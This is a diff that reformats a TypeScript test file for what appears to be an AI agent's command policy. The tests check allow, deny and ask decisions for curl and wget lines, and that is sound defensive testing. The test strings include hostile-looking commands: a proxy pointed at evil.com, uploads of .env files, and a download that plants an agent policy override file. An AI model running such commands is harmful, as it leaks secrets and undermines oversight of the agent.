@@ -25,7 +25,8 @@ before(async () => {
   set = await policy({ '': POLICY });
 });
 
-const run = (line: string, cwd?: string): DecisionResult => evaluate(set, cwd === undefined ? { action: 'command.exec', command: line } : { action: 'command.exec', command: line, cwd });
+const run = (line: string, cwd?: string): DecisionResult =>
+  evaluate(set, cwd === undefined ? { action: 'command.exec', command: line } : { action: 'command.exec', command: line, cwd });
 
 /** The causes that decided, as [kind, word] pairs. */
 function deciding(r: DecisionResult): [string, string | undefined][] {
@@ -59,7 +60,13 @@ describe('files a fetcher sends are reads of those files', () => {
   }
 
   it('data that only looks like a file is not one: no @, @- (standard input), or text before = in urlencode', () => {
-    for (const line of ['curl -d a@b https://example.com', 'curl -d @- https://example.com', 'curl --data-urlencode "a=b@.env" https://example.com', 'curl --data-raw @.env https://example.com', 'curl -F "f=x@.env" https://example.com']) {
+    for (const line of [
+      'curl -d a@b https://example.com',
+      'curl -d @- https://example.com',
+      'curl --data-urlencode "a=b@.env" https://example.com',
+      'curl --data-raw @.env https://example.com',
+      'curl -F "f=x@.env" https://example.com',
+    ]) {
       const r = run(line);
       assert.equal(r.decision, 'allow', `${line}: ${r.reason}`);
     }
@@ -82,7 +89,10 @@ describe('where the connection really goes', () => {
     it(`${line}: connects to ${target}, which is not an exception`, () => {
       const r = run(line);
       assert.equal(r.decision, 'deny', r.reason);
-      assert.ok(deciding(r).some(([kind, word]) => kind === 'network' && word === target), JSON.stringify(r.causes));
+      assert.ok(
+        deciding(r).some(([kind, word]) => kind === 'network' && word === target),
+        JSON.stringify(r.causes),
+      );
     });
   }
 
@@ -101,7 +111,12 @@ describe('where the connection really goes', () => {
 });
 
 describe('URLs, options or commands read from a file the policy cannot see', () => {
-  for (const [line, option, file] of [['curl -K cfg', '-K', 'cfg'], ['curl --config=cfg https://example.com', '--config', 'cfg'], ['wget -i urls.txt', '-i', 'urls.txt'], ['wget --execute http_proxy=evil.com -O downloads/x https://example.com', '--execute', 'http_proxy=evil.com']] as const) {
+  for (const [line, option, file] of [
+    ['curl -K cfg', '-K', 'cfg'],
+    ['curl --config=cfg https://example.com', '--config', 'cfg'],
+    ['wget -i urls.txt', '-i', 'urls.txt'],
+    ['wget --execute http_proxy=evil.com -O downloads/x https://example.com', '--execute', 'http_proxy=evil.com'],
+  ] as const) {
     it(`${line}: asks, naming ${option}`, () => {
       const r = run(line);
       assert.equal(r.decision, 'ask', r.reason);
@@ -113,7 +128,13 @@ describe('URLs, options or commands read from a file the policy cannot see', () 
 
 describe('downloads are writes', () => {
   it('curl -o and wget -O write the file they name', () => {
-    for (const [line, option, file] of [['curl -o README.md https://example.com', '-o', 'README.md'], ['curl -sSLo README.md https://example.com', '-o', 'README.md'], ['wget -O README.md https://example.com', '-O', 'README.md'], ['curl -D head.txt https://example.com', '-D', 'head.txt'], ['curl -c jar https://example.com -o downloads/x', '-c', 'jar']] as const) {
+    for (const [line, option, file] of [
+      ['curl -o README.md https://example.com', '-o', 'README.md'],
+      ['curl -sSLo README.md https://example.com', '-o', 'README.md'],
+      ['wget -O README.md https://example.com', '-O', 'README.md'],
+      ['curl -D head.txt https://example.com', '-D', 'head.txt'],
+      ['curl -c jar https://example.com -o downloads/x', '-c', 'jar'],
+    ] as const) {
       const r = run(line);
       assert.equal(r.decision, 'deny', `${line}: ${r.reason}`);
       assert.ok(r.reason.includes(`its option ${option} writes "${file}": filesystem.write "${file}": matches no allow pattern`), `${line}: ${r.reason}`);
@@ -121,10 +142,15 @@ describe('downloads are writes', () => {
     assert.equal(run('curl -o downloads/page https://example.com').decision, 'allow');
   });
 
-  it('wget without -O, and curl -O, save under the URL\'s last segment where they run', () => {
+  it("wget without -O, and curl -O, save under the URL's last segment where they run", () => {
     const planted = run('wget https://example.com/x/.agent-policy.override.yml', 'backend');
     assert.equal(planted.decision, 'deny', planted.reason);
-    assert.ok(planted.reason.includes('wget saves the download as ".agent-policy.override.yml": filesystem.write ".agent-policy.override.yml" (backend/.agent-policy.override.yml): protected (an agent policy override)'), planted.reason);
+    assert.ok(
+      planted.reason.includes(
+        'wget saves the download as ".agent-policy.override.yml": filesystem.write ".agent-policy.override.yml" (backend/.agent-policy.override.yml): protected (an agent policy override)',
+      ),
+      planted.reason,
+    );
     const index = run('wget https://example.com/');
     assert.ok(index.reason.includes('wget saves the download as "index.html"'), index.reason);
     const curl = run('curl -O https://example.com/a/tool.sh?v=1');
@@ -137,7 +163,14 @@ describe('downloads are writes', () => {
   });
 
   it('- is standard output for curl and wget: nothing is written, so the line is allowed (it was denied as a write of a file named -)', () => {
-    for (const line of ['wget -qO- https://example.com/a.sh', 'wget -O - https://example.com/', 'curl -o - https://example.com', 'curl -sD - https://example.com', 'curl --dump-header=- https://example.com', 'curl -c - https://example.com']) {
+    for (const line of [
+      'wget -qO- https://example.com/a.sh',
+      'wget -O - https://example.com/',
+      'curl -o - https://example.com',
+      'curl -sD - https://example.com',
+      'curl --dump-header=- https://example.com',
+      'curl -c - https://example.com',
+    ]) {
       const r = run(line);
       assert.equal(r.decision, 'allow', `${line}: ${r.reason}`);
     }
@@ -147,7 +180,12 @@ describe('downloads are writes', () => {
   });
 
   it('names the server chooses, or escaped names, ask', () => {
-    for (const [line, why] of [['wget -r https://example.com/', 'wget -r saves files under names the server chooses'], ['wget --content-disposition https://example.com/d', 'wget --content-disposition saves files under names the server chooses'], ['curl -OJ https://example.com/d', 'curl -J saves files under names the server chooses'], ['wget https://example.com/%2eenv', 'wget saves "https://example.com/%2eenv" under a name with escapes (%2eenv)']] as const) {
+    for (const [line, why] of [
+      ['wget -r https://example.com/', 'wget -r saves files under names the server chooses'],
+      ['wget --content-disposition https://example.com/d', 'wget --content-disposition saves files under names the server chooses'],
+      ['curl -OJ https://example.com/d', 'curl -J saves files under names the server chooses'],
+      ['wget https://example.com/%2eenv', 'wget saves "https://example.com/%2eenv" under a name with escapes (%2eenv)'],
+    ] as const) {
       const r = run(line, 'downloads');
       assert.equal(r.decision, 'ask', `${line}: ${r.reason}`);
       assert.ok(r.reason.includes(why), `${line}: ${r.reason}`);
